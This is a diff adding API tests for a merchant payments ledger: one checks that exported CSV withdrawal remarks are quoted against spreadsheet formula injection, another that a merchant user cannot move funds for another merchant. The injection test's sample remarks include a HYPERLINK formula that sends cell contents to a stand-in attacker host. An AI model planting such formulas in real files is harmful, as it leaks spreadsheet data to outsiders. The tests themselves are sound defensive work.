@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync'
 import { and, count, eq, like } from 'drizzle-orm'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import {
@@ -528,5 +529,60 @@ describe('demo data', () => {
     const admins = await api.deps.db.select().from(users).where(eq(users.loginName, 'admin'))
     expect(admins).toHaveLength(1)
     expect(await verifyLedger(api.deps.db)).toMatchObject({ ok: true, mismatches: [] })
+  })
+})
+
+describe('export of withdrawal remarks (issue 17 item 6: CSV formula injection)', () => {
+  it('quotes remarks a spreadsheet would run, and keeps amounts numbers', async () => {
+    const remarks = ['=HYPERLINK("http://evil.example/?q="&A1,"x")', '+1+2', '-3+4', '@SUM(A1)']
+    for (const remark of remarks) {
+      const made = await call(
+        '/transactions/save',
+        { kind: 'withdrawal', currency: 'USD', amount: 5_00, beneficiary: 'OCBC 1', remark },
+        'merchant.user',
+      )
+      expect(made.body.code).toBe(0)
+    }
+    const csv = await api.fetch(
+      '/accounts/transactions/export',
+      { format: 'csv', filters: { type: 'withdrawal', merchant: skyline } },
+      { token: tokens['merchant.user'] },
+    )
+    expect(csv.status).toBe(200)
+    const [header, ...records] = parse(await csv.text(), { bom: true }) as string[][]
+    const [remark, amount] = [header.indexOf('Remark'), header.indexOf('Amount')]
+    const ours = records.filter((r) => remarks.some((x) => r[remark] === `'${x}`))
+    expect(ours.map((r) => r[remark]).sort()).toEqual(remarks.map((x) => `'${x}`).sort())
+    // The signed amount is a bare number: no quote, so a spreadsheet still adds it up.
+    expect(ours.map((r) => r[amount])).toEqual(['-500', '-500', '-500', '-500'])
+  })
+})
+
+describe('a merchant user naming another merchant (issue 17: reach is refused, never replaced)', () => {
+  const requests = async () =>
+    Number((await api.deps.db.select({ n: count() }).from(accountRequests))[0].n)
+
+  it.each([
+    ['a deposit', { kind: 'deposit', amount: 100_00, reference: 'WIRE-X', proof }],
+    ['a withdrawal', { kind: 'withdrawal', amount: 1_00, beneficiary: 'OCBC 1' }],
+  ])('refuses %s for a merchant outside its reach with 2020, writing nothing', async (_l, body) => {
+    const before = [await requests(), await balanceOf(blueHarbor), await balanceOf(skyline)]
+    const res = await call(
+      '/transactions/save',
+      { currency: 'USD', ...body, merchantId: blueHarbor },
+      'merchant.user',
+    )
+    expect(res.status).toBe(404)
+    expect(res.body.code).toBe(2020)
+    expect([await requests(), await balanceOf(blueHarbor), await balanceOf(skyline)]).toEqual(
+      before,
+    )
+  })
+
+  it('still defaults to its own merchant when it names none, and accepts its own id', async () => {
+    const none = await deposit(100_00)
+    expect(none.body.data.merchantId).toBe(skyline)
+    const own = await deposit(100_00, 'merchant.user', { merchantId: skyline })
+    expect(own.body.data.merchantId).toBe(skyline)
   })
 })
